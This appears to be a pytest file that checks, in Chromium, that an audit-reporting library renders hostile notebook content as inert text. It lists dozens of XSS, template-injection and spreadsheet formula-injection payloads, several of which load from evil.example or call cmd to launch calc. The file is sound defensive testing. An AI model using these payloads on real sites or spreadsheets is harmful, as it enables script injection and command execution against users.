"""A notebook made of payloads, in Chromium: each is shown as it is written, in every place that text can come from."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest

import auditkit as ak
from auditkit import charts
from auditkit.reporting import cover, table
from auditkit.text import visible
from tests.reporting.browsing import Opened, open_report
from tests.reporting.material import PAYLOADS, code, display, exported, notebook, prose, raised, shown

START = datetime(2026, 11, 16, tzinfo=UTC)
EVIL = "https://evil.example"
MORE = (
    "<ScRiPt>alert('case')</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert('nested')</scr</script>ipt>",
    "</title><script>alert('title')</script>",
    "</style><script>alert('style')</script>",
    "</textarea><svg/onload=alert('area')>",
    "--><script>alert('comment')</script>",
    "<![CDATA[<script>alert('cdata')</script>]]>",
    "<body onload=alert('body')>",
    "<input autofocus onfocus=alert('input')>",
    "<details open ontoggle=alert('toggle')>",
    "<video><source onerror=alert('video')>",
    "<marquee onstart=alert('marquee')>",
    "<object data=javascript:alert('object')>",
    "<embed src=javascript:alert('embed')>",
    "<base href=https://evil.example/>",
    "<math><mtext><script>alert('math')</script></mtext></math>",
    "<svg><a xlink:href=javascript:alert('xlink')><text>x</text></a></svg>",
    "<svg><use href=https://evil.example/a.svg#a /></svg>",
    "<svg><animate onbegin=alert('animate') attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=https://evil.example/f></iframe></foreignObject></svg>",
    "<img srcset=https://evil.example/set.png>",
    "<table background=https://evil.example/bg.png><tr><td>",
    "<a href=data:text/html,<script>alert('data')</script>>data</a>",
    "<template><script>alert('template')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    '" onmouseover="alert(\'attribute\')" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(`tick`)",
    "javascript:alert('bare')",
    "java\tscript:alert('tab')",
    "&lt;script&gt;alert('entity')&lt;/script&gt;",
    "&#60;script&#62;alert('numeric')&#60;/script&#62;",
    "\\u003cscript\\u003ealert('escape')\\u003c/script\\u003e",
    "\\(\\unicode{<script>alert('mathjax')</script>}\\)",
    "$$\\require{html}\\href{https://evil.example/tex}{x}$$",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "${alert('literal')}",
    "#{7*7}<%= 7*7 %>",
    "constructor.constructor('alert(1)')()",
    "datum['constructor']['constructor']('alert(2)')()",
    "', alert(3), '",
    "{\"signal\": \"alert('signal')\"}",
    "__proto__",
    "[x]: https://evil.example/reference",
    "<https://evil.example/auto>",
    "```html\n<script>alert('fence')</script>\n```",
    "@import url(https://evil.example/import.css);",
    "expression(alert('css'))",
    "url(https://evil.example/fill.svg#a)",
    "=HYPERLINK(\"https://evil.example\", \"formula\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u2066isolate\u2069\u200fmark",
    "line\u2028paragraph\u2029",
    "bell\x07back\x08null\x00delete\x7f",
    "\x9b31mC1\x9b0m",
    "Z\u0351\u036b\u0343algo",
    "\U000e0041tag",
)  # fmt: skip
ALL = (*PAYLOADS, *MORE)
EVERYTHING = " ".join(ALL)
LONG = "<script>alert('long')</script>" * 2184  # close to the 64 KiB of a field
DEEP = {"<img src=x onerror=alert('attrs')>": ["</script>" * 115_000]}  # close to the 1 MiB of attrs
FOREIGN: list[dict[str, Any]] = [
    {"mark": {"type": "bar", "href": "javascript:alert('href')"}},
    {"mark": {"type": "image", "url": f"{EVIL}/image.png"}},
    {"data": {"url": f"{EVIL}/data.csv"}, "mark": "bar"},
    {"mark": "bar", "encoding": {"href": {"value": "javascript:alert('channel')"}}},
    {"mark": "bar", "transform": [{"calculate": "constructor.constructor('alert(1)')()", "as": "b"}]},
    {"mark": "bar", "transform": [{"filter": "datum.toString.constructor('alert(2)')()"}]},
    {"mark": "bar", "title": EVERYTHING, "description": EVERYTHING},
    {"mark": "bar", "usermeta": {"embedOptions": {"loader": {"baseURL": EVIL}, "ast": False, "actions": True, "defaultStyle": "body{display:none}", "patch": f"{EVIL}/patch.json"}}},
    {"mark": {"type": "bar", "tooltip": {"content": "data"}}, "params": [{"name": "p", "value": 1, "bind": {"input": "range", "element": "body"}}]},
]  # fmt: skip


@pytest.fixture(scope="module")
def trail(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A trail with each payload in each field, and one event at the size limits."""
    with ak.create(tmp_path_factory.mktemp("hostile") / "<u>trail", tz="Europe/Stockholm") as trail:
        fields = ("action", "actor", "resource", "outcome", "source", "origin", "correlation", "id")
        trail.extend(
            {**dict.fromkeys(fields, text), "ts": START + timedelta(hours=at), "attrs": {text: text}}
            for at, text in enumerate(ALL)
        ).wait()
        trail.extend([{**dict.fromkeys(fields, LONG), "ts": START, "attrs": DEEP}]).wait()
        yield trail


@pytest.fixture(scope="module")
def html(trail: ak.Trail) -> str:
    """The report of a notebook whose every cell, output and parameter is hostile."""
    events = trail.range().drop("recorded")
    by = pl.DataFrame(
        {EVERYTHING: [*ALL, LONG], "outcome": ["x"] * (len(ALL) + 1), "count": [1] * (len(ALL) + 1)}
    )
    hours = trail.group_by("actor", every="1h")
    figures = [
        charts.over_time(hours, every="1h", by="actor", title=EVERYTHING, most=len(ALL)),
        charts.top(by, EVERYTHING, split="outcome", n=len(ALL) + 1),
        charts.share(by, EVERYTHING, most=len(ALL)),
        charts.timeline(
            events, "actor", split="action", detail=["resource", "attrs"], n=len(ALL), most=len(ALL)
        ),
    ]
    wide = pl.DataFrame({text: [text] for text in ALL})
    bars: dict[str, Any] = {
        "data": {"values": [{"a": text, "b": 1} for text in ALL]},
        "encoding": {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}},
    }
    cells = [
        prose(EVERYTHING),
        code("page", shown(cover(trail, where={"actor": [*ALL, LONG]}, title=EVERYTHING, answer=EVERYTHING))),
        code("events", shown(table(events, EVERYTHING, tz="Europe/Stockholm")), shown(table(wide, "Wide"))),
        *(code(EVERYTHING, shown(figure)) for figure in figures),
        *(
            code("altair", display({"application/vnd.vegalite.v5+json": {**bars, **spec}}))
            for spec in FOREIGN
        ),
        *(code(text, *outputs(text), tags=["raises-exception", text.replace(",", "")]) for text in ALL),
        *(prose(f"## {text}\n\n{text}") for text in ALL),
    ]
    run = {
        "parameters": {text: {text: [text]} for text in ALL},
        "input_path": EVERYTHING,
        "start_time": EVERYTHING,
    }
    language = {"name": EVERYTHING, "version": EVERYTHING}
    return exported(notebook(*cells, papermill=run, language_info=language), name=EVERYTHING)


def outputs(text: str) -> list[Any]:
    """Return a payload in every form of output."""
    return [
        {"output_type": "stream", "name": "stdout", "text": text},
        raised(text, text),
        *(
            display({mime: text, "text/plain": text})
            for mime in ("text/plain", "text/markdown", "text/html", "text/latex")
        ),
        *(display({mime: text}) for mime in ("image/svg+xml", "application/javascript", "image/png", text)),
        display({"application/vnd.auditkit.table+json": {"title": text}, "text/plain": text}),
        display({"application/vnd.auditkit.chart+json": text, "application/vnd.auditkit.card+json": [text]}),
    ]


def untouched(opened: Opened) -> None:
    """Check that nothing ran, was asked for, was complained about or was left, and that nothing foreign is in the page."""
    assert (opened.dialogs, opened.requests, opened.messages) == ([], [], [])
    assert len(opened.navigations) == 1
    foreign = "iframe, object, embed, base, form:not(.vega-bindings), link, video, source, marquee, template, noscript, math, use, foreignObject, animate, image"
    assert opened.page.locator(foreign).count() == 0
    assert opened.page.locator("style, meta[http-equiv]").count() == 2
    acting = """() => [...document.querySelectorAll("*")].flatMap((one) => [...one.attributes])
        .filter(({ name, value }) => /^on/.test(name) || (/href|src/.test(name) && !/^(#|data:image|https?:)/.test(value)))
        .map(({ name, value }) => `${name}=${value}`)"""
    assert opened.page.evaluate(acting) == []


def test_there_are_enough() -> None:
    """At least 60 payloads, each once, and as long as a field may be."""
    assert len(ALL) == len(set(ALL)) >= 60
    assert 65_000 < len(LONG.encode()) <= 65_536
    assert 1_000_000 < len(json.dumps(DEEP)) <= 1_048_576


def test_payloads_are_read_and_not_obeyed(browser: Any, html: str, tmp_path: Path) -> None:
    """Every payload stands in the page as it is written; no filter is set, nothing runs, with everything unfolded."""
    opened = open_report(browser, html, tmp_path / "hostile.html")
    page = opened.page
    page.evaluate("document.querySelectorAll('details').forEach((folded) => (folded.open = true))")
    text = page.evaluate("document.querySelector('main').textContent")
    for payload in ALL:
        assert text.count(visible(payload)) >= 10, payload
    assert LONG in text
    assert page.locator("figure.chart.drawn").count() >= 5
    assert set(page.locator("output").all_inner_texts()) == {""}
    assert not page.locator(".picked").filter(visible=True).count()
    assert page.evaluate("document.documentElement.scrollWidth") == page.viewport_size["width"]
    untouched(opened)


def test_payloads_stay_text_in_use(browser: Any, html: str, tmp_path: Path) -> None:
    """Searching for payloads, sorting by every column, brushing, pointing, saving and darkening changes none of that."""
    opened = open_report(browser, html, tmp_path / "hostile.html", color_scheme="dark")
    page = opened.page
    events = page.locator("figure.data[data-extent]").first
    search = events.locator("input")
    for payload in (ALL[0], ALL[5], "constructor.constructor('alert(1)')()", "__proto__"):
        search.fill(payload)
        assert events.locator("output").inner_text().split()[0] != "0"
    search.fill("")
    for button in events.locator("thead button").all():
        button.click()
        button.click()
    with page.expect_download() as download:
        events.get_by_text("CSV").click()
    assert download.value.suggested_filename.endswith(f"(all {len(ALL) + 1} rows).csv".replace("all ", ""))
    saved = download.value.path().read_text(encoding="utf-8-sig")
    assert not {"\x1b", "\u202e", "\x00"} & set(saved)
    assert "'=HYPERLINK" in saved
    live = page.locator(".live[tabindex]").first
    live.focus()
    for key in ("ArrowRight", "Shift+ArrowRight"):
        page.keyboard.press(key)
    page.locator(".picked").first.wait_for()
    page.locator(".live g.mark-rect.marks path").nth(40).hover(force=True)
    page.wait_for_selector(".tip:visible")
    page.get_by_role("button", name="Light").click()
    untouched(opened)
